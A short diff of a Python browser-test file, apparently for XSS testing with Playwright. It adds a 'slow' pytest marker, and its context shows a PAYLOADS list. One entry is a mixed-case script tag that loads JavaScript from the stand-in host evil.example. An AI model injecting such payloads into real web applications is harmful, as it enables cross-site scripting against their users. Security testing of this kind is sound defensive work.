@@ -12,6 +12,8 @@ from client import Person
 from playwright.async_api import Browser, Page
 from visitor import Visitor, logged_in
 
+pytestmark = pytest.mark.slow
+
 PAYLOADS = [
     "<script>alert(1)</script>",
     "<ScRiPt src=//evil.example/x.js></ScRiPt>",
